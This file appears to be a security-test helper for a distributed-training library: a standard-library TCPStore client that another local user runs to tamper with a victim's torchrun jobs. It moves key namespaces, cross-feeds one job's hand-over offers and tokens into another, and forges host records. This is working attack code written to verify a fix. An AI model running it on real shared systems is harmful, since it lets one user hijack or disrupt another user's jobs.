"""Another local user wiring two jobs of one user into each other through their stores
(tests/test_jobs_attack.py; issue 43).

``python3 jobs_intruder.py MODE PORT_A PORT_B SECONDS DIR`` -- run AS THE OTHER USER with the
system's python3, standard library only (it speaks torch's TCPStore protocol itself, as
init_intruder.py does).  The victim runs two ``torchrun --nproc-per-node 2`` jobs at once (A on
PORT_A, B on PORT_B), each calling ``init_distributed()`` and ``prepare()``.  MODE:

* ``cross``: as the issue-43 attacker did, against the default group's shm hand-over.  First it
  moves each rank's key namespace with the per-rank counter round 5's groups read from the store
  (``shm/joins/<rank>``: rank 0 to 11, rank 1 to 21), then feeds each rank of one job the other
  job's records and hand-over offer there: job A's rank 1 reads job B's rank-0 record (its pid)
  and B's offer (socket name and token), A's rank 0 reads B's rank-1 record, and the reverse.
  Against namespaces no one can move it swaps the two jobs' offers in place instead: it deletes
  each job's offer as soon as it appears, until the other job's is there, then writes the other's.
* ``subgroup``: one job of 3 ranks (PORT_A only) forms ``new_group([0, 1])`` on shm.  The attacker
  moves the subgroup's namespaces the same way and gives each of ranks 0 and 1 a record of the
  other that names another host (so each would seem alone on its node, and the group would run
  on gloo); in a namespace it cannot move it rewrites the records in place.

It writes what it did to ``DIR/intruder.json``: its uid and how many keys it wrote.
"""

import json
import os
import struct
import sys
import time

import init_intruder  # copied beside this file (with shm_intruder.py, which it imports)

ADD, DELETE = 4, 8  # TCPStore's query types beyond init_intruder's
PREFIX = init_intruder.PREFIX  # torchrun's agent store, as the job's ranks use it
NS = {0: 11, 1: 21}  # where the counter moves each rank (old code)


class Store(init_intruder.Store):
    """init_intruder's standard-library TCPStore client, with add, delete and peek."""

    def add(self, key: str, n: int) -> int:
        self.s.sendall(bytes([ADD]) + self._text(("/" + key).encode()) + struct.pack("=q", n))
        return struct.unpack("=q", self._recv(8))[0]

    def delete(self, key: str) -> None:
        self.s.sendall(bytes([DELETE]) + self._text(("/" + key).encode()))
        self._recv(8)

    def peek(self, key: str):
        return self.get(key) if self.check(key) else None


def connect(port: int, deadline: float) -> Store:
    while True:
        try:
            return Store(port)
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.005)


def group_prefix(group: int) -> str:
    """Where a group's keys live (torch: the default group's name, a subgroup's under it, the
    device; cpuddp: shm), as torch 2.13 lays them out under torchrun."""
    return f"{PREFIX}0//cpu//shm/" if group == 0 else f"{PREFIX}0//{group}//cpu//shm/"


class Cross:
    """Two jobs' default groups wired into each other (see the module docstring)."""

    def __init__(self, a: Store, b: Store, result: dict) -> None:
        self.stores, self.result = {"A": a, "B": b}, result
        self.offers: dict = {}  # job -> its own rank 0's offer (new layout), as first seen
        self.wrote: dict = {}  # (job, key) -> the value this attacker wrote there
        self.pre = group_prefix(0)

    def put(self, job: str, key: str, value) -> None:
        if value is not None and self.wrote.get((job, key)) != value:
            self.stores[job].set(key, value)
            self.wrote[(job, key)] = value
            self.result["rewrites"] += 1

    def step(self) -> None:
        for x, y in (("A", "B"), ("B", "A")):
            theirs, p = self.stores[y], self.pre
            # old layout: namespaces moved by the counter, each filled from the other job
            self.put(x, f"{p}{NS[1]}/who/0", theirs.peek(f"{p}{NS[0]}/who/0"))
            self.put(x, f"{p}{NS[0]}/who/1", theirs.peek(f"{p}{NS[1]}/who/1"))
            self.put(x, f"{p}{NS[1]}/seg/0", theirs.peek(f"{p}{NS[0]}/seg/0"))
            self.put(x, f"{p}{NS[1]}/ready/0", theirs.peek(f"{p}{NS[0]}/ready/0"))
            self.swap_in_place(x, y)

    def swap_in_place(self, x: str, y: str) -> None:
        """The new layout (``shm/1``): hold x's own offer back until y's exists, then give x y's."""
        key = f"{self.pre}1/seg/0"
        got = self.stores[x].peek(key)
        if got is not None and got != self.wrote.get((x, key)) and x not in self.offers:
            self.offers[x] = got
            self.stores[x].delete(key)
            self.result["deleted"] += 1
        if y in self.offers:
            self.put(x, key, self.offers[y])


class Subgroup:
    """A subgroup's records rewritten to put its two ranks on different hosts."""

    def __init__(self, store: Store, result: dict) -> None:
        self.store, self.result, self.done = store, result, set()

    def forge(self, raw: bytes, r: int) -> bytes:
        d = json.loads(raw)
        d["host"] = f"{d['host']}-elsewhere{r}"
        return json.dumps(d).encode()

    def step(self) -> None:
        for g in (1, 2):
            p = group_prefix(g)
            for r, other in ((0, 1), (1, 0)):
                # old layout: rank `other`'s namespace gets a record of rank r naming another host
                raw = self.store.peek(f"{p}{NS[r]}/who/{r}")
                if raw is not None and (g, "old", r) not in self.done:
                    self.store.set(f"{p}{NS[other]}/who/{r}", self.forge(raw, r))
                    self.done.add((g, "old", r))
                    self.result["rewrites"] += 1
                # new layout: the record itself, rewritten in place (whatever its writer reads back)
                key = f"{p}1/who/{r}"
                raw = self.store.peek(key)
                if raw is not None and b"elsewhere" not in raw:
                    self.store.set(key, self.forge(raw, r))
                    self.result["rewrites"] += 1


def attack(mode: str, ports: list, seconds: float, where: str) -> None:
    deadline = time.monotonic() + seconds
    result = {"uid": os.geteuid(), "mode": mode, "rewrites": 0, "deleted": 0, "moved": 0}
    try:
        stores = [connect(p, deadline) for p in ports]
        for s in stores:  # before any rank forms its group: move each rank's namespace (old code)
            for g in ((0,) if mode == "cross" else (1, 2)):
                for r, n in NS.items():
                    s.add(f"{group_prefix(g)}joins/{r}", n - 1)
                    result["moved"] += 1
        plan = Cross(stores[0], stores[1], result) if mode == "cross" else Subgroup(stores[0], result)
        while time.monotonic() < deadline and not os.path.exists(os.path.join(where, "done")):
            plan.step()
            time.sleep(0.001)
    except OSError as exc:  # a job ended and took its store with it
        result["ended"] = str(exc)
    with open(os.path.join(where, "intruder.json"), "w") as f:
        json.dump(result, f)


if __name__ == "__main__":
    mode, seconds, where = sys.argv[1], float(sys.argv[-2]), sys.argv[-1]
    attack(mode, [int(p) for p in sys.argv[2:-2]], seconds, where)
